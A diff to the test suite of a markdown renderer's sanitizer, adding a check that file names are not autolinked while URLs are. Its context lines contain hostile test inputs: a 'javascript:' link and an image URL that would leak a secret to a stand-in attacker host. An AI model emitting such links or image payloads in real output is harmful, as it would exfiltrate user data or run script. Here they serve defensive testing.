@@ -77,6 +77,11 @@ def test_javascript_href_with_digits_only_is_stripped():
     assert render_markdown('<a href="javascript:123">x</a>') == "<p><a>x</a></p>"
 
 
+def test_file_names_are_not_autolinked_but_urls_are():
+    html = render_markdown("Edit app.py and README.md, see https://example.com/a?b=1.")
+    assert html.count("<a ") == 1 and 'href="https://example.com/a?b=1"' in html
+
+
 def test_images_never_render_even_from_markdown():
     assert "<img" not in render_markdown("![x](https://evil.example/leak?d=secret)")
 
